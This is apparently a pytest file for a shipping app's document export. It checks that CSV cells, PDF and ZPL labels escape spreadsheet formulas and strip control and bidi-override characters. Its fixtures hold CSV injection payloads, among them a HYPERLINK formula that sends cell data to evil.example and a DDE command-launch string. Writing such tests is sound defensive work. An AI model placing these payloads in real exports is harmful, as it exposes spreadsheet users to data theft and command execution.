"""Cells and printed text cannot carry formulas, control or bidi-override characters."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal

import pytest

from app.documents.label import render_label
from app.documents.manifest import manifest_csv, render_manifests
from app.documents.safe_text import csv_cell, printable
from app.documents.zpl import render_label_zpl
from app.domain.transliteration import to_latin
from tests.docs_helpers import pdf_text
from tests.unit.test_documents import ADDRESSEE, label, manifest, manifest_rows

RLO = "\u202e"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+7 916 123", "'+7 916 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        ("Priya\x07 Ven\x00kataraman", "Priya Venkataraman"),
        ("abc" + RLO + "def", "abcdef"),
        ("Сергеев", "Сергеев"),
        (-3, "-3"),
        (Decimal("-1.50"), "-1.50"),
        (None, ""),
    ],
)
def test_csv_cell_owasp_rule(cell: object, expected: str) -> None:
    assert csv_cell(cell) == expected


def test_manifest_csv_with_a_formula_addressee_reads_back_as_text() -> None:
    rows = list(manifest_rows(3))
    rows[1] = replace(rows[1], addressee='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    rows[2] = replace(rows[2], addressee="@cmd|' /C calc'!A0\x1b")
    text = manifest_csv([manifest(tuple(rows))])
    table = list(csv.DictReader(io.StringIO(text)))
    assert table[1]["addressee"] == "'" + rows[1].addressee
    assert table[2]["addressee"] == "'@cmd|' /C calc'!A0"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in table for v in r.values())
    # ordinary names unchanged apart from the Latin script the carrier's file now uses
    assert table[0]["addressee"] == to_latin(rows[0].addressee) == "Sergeev Dmitrii Olegovich"


def test_printable_drops_controls_and_bidi_overrides() -> None:
    assert printable("a\u202eb\u2066c\u2069d\x1b[31me\x85") == "abcd[31me"
    assert printable("Rajesh Kumar Sharma — Мумбаи") == "Rajesh Kumar Sharma — Мумбаи"


def test_label_pdf_and_zpl_strip_bidi_override_and_controls() -> None:
    evil = replace(ADDRESSEE, name=f"Rajesh{RLO}amrahS\x07 Kumar", city="Mum\x1bbai")
    pdf = pdf_text(render_label(label(addressee=evil)))
    assert RLO not in pdf and "\x07" not in pdf and "\x1b" not in pdf
    assert "RajeshamrahS Kumar" in pdf
    zpl = render_label_zpl(label(addressee=evil))
    assert RLO not in zpl and "\x07" not in zpl and "\x1b" not in zpl
    assert "RajeshamrahS Kumar" in zpl and "Mumbai" in zpl


def test_manifest_pdf_strips_bidi_override() -> None:
    rows = list(manifest_rows(2))
    rows[0] = replace(rows[0], addressee=f"Priya{RLO} Venkataraman")
    pdf = pdf_text(render_manifests([manifest(tuple(rows))]))
    assert RLO not in pdf and "Priya Venkataraman" in pdf
